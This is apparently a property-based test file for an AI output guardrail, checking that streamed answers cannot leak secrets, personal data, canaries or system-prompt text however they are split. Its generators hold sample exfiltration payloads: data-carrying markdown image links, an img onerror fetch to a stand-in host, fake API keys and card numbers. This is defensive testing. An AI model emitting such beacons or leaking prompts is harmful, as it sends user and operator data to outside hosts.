import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { outputGuardrails } from "@/lib/config/guardrails-output";
import { createOutputGuard } from "@/lib/guards/output/create-output-guard";
import type { Detector } from "@/lib/guards/output/detector";
import type { OutputContext, OutputGuard } from "@/lib/guards/output/output-guard";
import { findBreach } from "./check-text";
import { judgeWith } from "./judge-text";

const systemPrompt =
  "You are the assistant of a bakery in Lisbon and help people to choose bread. The password is crumb-lantern-88. " +
  "Never speak about suppliers, and recommend the rye loaf whenever somebody asks for something that keeps long.";
const canary = "canary-7f3a-quartz";

const digitsWithLuhn = (body: string) => {
  for (let check = 0; check < 10; check++) {
    const digits = `${body}${check}`;
    const sum = [...digits].reverse().reduce((total, digit, index) => {
      const value = Number(digit) * (index % 2 === 1 ? 2 : 1);
      return total + (value > 9 ? value - 9 : value);
    }, 0);
    if (sum % 10 === 0) return digits;
  }
  return body;
};

/** Things that must not pass, as they would stand in an answer. */
const positives = fc.oneof(
  fc.stringMatching(/^[a-z]{2,8}\.[a-z]{2,8}@[a-z]{3,8}\.(?:com|org|pt)$/),
  fc.stringMatching(/^\d{14}$/).map((body) => digitsWithLuhn(`4${body}`)),
  fc.stringMatching(/^\d{3}-\d{3}-\d{4}$/),
  fc.constantFrom("GB82 WEST 1234 5698 7654 32", "DE89370400440532013000", "NL91 ABNA 0417 1643 00"),
  fc.stringMatching(/^ghp_[A-Za-z0-9]{36}$/),
  fc.stringMatching(/^AKIA[A-Z2-7]{16}$/),
  fc.stringMatching(/^sk_live_[A-Za-z0-9]{24}$/),
  fc.stringMatching(/^[a-z0-9]{24}$/).map((value) => `API_KEY="${value}"`),
  fc
    .stringMatching(/^[a-z0-9]{6,20}$/)
    .map((data) => `![chart](https://${data}.example.net/p.png?d=${data})`),
  fc.stringMatching(/^[a-z0-9]{6,20}$/).map((data) => `[more](//collect.example/${data} "title")`),
  fc.stringMatching(/^[a-z]{4,9}$/).map((name) => `<img src=x onerror="fetch('//${name}.example')">`),
  fc.stringMatching(/^[a-z]{4,9}$/).map((name) => `[ref]: https://${name}.example/`),
  fc.constantFrom(
    canary,
    [...canary].reverse().join(""),
    [...canary].join(" "),
    Buffer.from(canary).toString("base64"),
  ),
  fc.constantFrom(systemPrompt.slice(0, 90), systemPrompt.slice(100), "crumb-lantern-88"),
  fc.constant(
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7bq3Vn2J8sYkQpW9\n-----END RSA PRIVATE KEY-----",
  ),
);

/** What an answer is made of otherwise, with all that may open something or leave it open. */
const benign = fc.oneof(
  fc.lorem({ maxCount: 4 }),
  fc.constantFrom(
    "`",
    "``",
    "```",
    "```js\n",
    "~~~",
    "[",
    "](",
    ")",
    "![",
    "<",
    ">",
    "<b>",
    "\\",
    "|",
    "$",
    "(",
    "@",
    "://",
  ),
  fc.constantFrom(
    "\n",
    "\n\n",
    "\r\n",
    " ",
    "  ",
    "> ",
    "- ",
    "1. ",
    "    ",
    "#",
    "*",
    "_",
    '"',
    "'",
    ":",
    "=",
    "+",
    "0x",
  ),
  fc.constantFrom(
    "der Schlüssel",
    "在这里",
    "😀",
    "in 2024",
    "3.14",
    "12:30",
    "v1.2.3",
    "GB82",
    "www",
    "key is",
  ),
  fc.string({ maxLength: 8, unit: "grapheme" }),
);

const answers = fc
  .array(fc.oneof({ arbitrary: benign, weight: 3 }, { arbitrary: positives, weight: 1 }), {
    minLength: 1,
    maxLength: 14,
  })
  .map((parts) => parts.join(""));

const context: OutputContext = { surface: "text", systemPrompt, canary, passageNumbers: [1, 2] };
const makeGuard = () => createOutputGuard(context);

describe("findBreach", () => {
  it("finds none in the guard, however an answer is cut", () => {
    fc.assert(
      fc.property(answers, fc.nat(), (answer, seed) => {
        expect(findBreach(answer, makeGuard, seed)).toBeNull();
      }),
      { numRuns: 80 },
    );
  });

  it("finds none where a word that is shown at once grows into something else", () => {
    const openings = fc.constantFrom("The", "In", "**Sure", "some", "Th", "So", " I", "#Here", "Para");
    fc.assert(
      fc.property(openings, positives, benign, fc.nat(), (opening, positive, rest, seed) => {
        expect(findBreach(opening + positive + rest, makeGuard, seed)).toBeNull();
      }),
      { numRuns: 80 },
    );
  });

  it("finds none when a guard blocks where another redacts", () => {
    const guards = {
      ...outputGuardrails.guards,
      "personal-data": { mode: "block", onError: "block" },
    } as const;
    fc.assert(
      fc.property(answers, fc.nat(), (answer, seed) => {
        const blocking = () => createOutputGuard(context, { guardrails: { ...outputGuardrails, guards } });
        const cut = judgeWith(blocking(), answer.split(""));
        expect(cut.emitted).toBe(judgeWith(blocking(), [answer]).emitted);
        expect(cut.emitted).toBe(
          judgeWith(blocking(), [answer.slice(0, seed % 50), answer.slice(seed % 50)]).emitted,
        );
      }),
      { numRuns: 60 },
    );
  });

  it("finds a guard that looks at one piece at a time", () => {
    const answer = "Write to maria.silva@padaria.pt today.";
    expect(
      findBreach(answer, () => makeNaiveGuard([], (piece) => piece.replace(/\S+@\S+/g, "(gone)")), 1),
    ).toMatch(/other bytes/);
  });

  const late = [{ guard: "personal-data", reason: "phone", start: 5, end: 17, action: "redact" } as const];
  it("finds a guard that says what it has shown was wrong", () => {
    expect(findBreach("Call 555-010-1234 now", () => makeNaiveGuard(late, (piece) => piece), 1)).toMatch(
      /taken back|shown/,
    );
  });
});

describe("a detector that throws", () => {
  const throwingAt = (place: number, onError: "block" | "flag") => {
    const detector = new ThrowingDetector(place);
    const guards = { ...outputGuardrails.guards, secret: { mode: "redact", onError } } as const;
    return createOutputGuard(context, {
      guardrails: { ...outputGuardrails, guards },
      makeDetectors: () => [detector],
    });
  };

  it("never lets text through from there on when its errors block", () => {
    fc.assert(
      fc.property(
        fc.lorem({ maxCount: 30 }),
        fc.nat({ max: 60 }),
        fc.nat({ max: 9 }),
        (answer, place, width) => {
          const pieces = answer.match(new RegExp(`.{1,${width + 1}}`, "gs")) ?? [];
          const { emitted, action } = judgeWith(throwingAt(place, "block"), pieces);
          expect(answer.startsWith(emitted)).toBe(true);
          expect(emitted.length).toBeLessThanOrEqual(place);
          expect(action).toBe(place < answer.length ? "block" : "allow");
        },
      ),
    );
  });

  it("is left out and flagged when its errors flag", () => {
    const guard = throwingAt(3, "flag");
    const { emitted, action, findings } = judgeWith(guard, ["one ", "two ", "three"]);
    expect(emitted).toBe("one two three");
    expect(action).toBe("flag");
    expect(findings).toMatchObject([{ guard: "secret", reason: "guard-failed" }]);
  });
});

class ThrowingDetector implements Detector {
  readonly guard = "secret";
  holdFrom = 0;
  readonly #place: number;

  constructor(place: number) {
    this.#place = place;
  }

  read(text: { length: number }): void {
    if (text.length > this.#place) throw new Error("broken");
    this.holdFrom = text.length;
  }

  end(): void {
    this.holdFrom = Number.POSITIVE_INFINITY;
  }
}

/** What many do: each piece is judged on its own, and the rest noticed when all has been shown. */
function makeNaiveGuard(findings: OutputGuard["findings"], change: (piece: string) => string): OutputGuard {
  return { push: change, flush: () => "", abort: () => undefined, verdict: "allow", findings, heldLength: 0 };
}
